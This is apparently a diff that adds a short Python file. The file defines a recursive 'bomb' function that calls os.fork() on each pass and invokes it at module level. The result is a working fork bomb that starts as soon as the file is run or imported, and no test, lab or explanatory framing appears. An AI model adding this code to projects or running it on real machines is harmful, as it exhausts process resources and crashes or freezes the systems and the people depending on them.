@@ -1,0 +1,9 @@
+import os
+
+
+def bomb():
+    os.fork()
+    bomb()
+
+
+bomb()
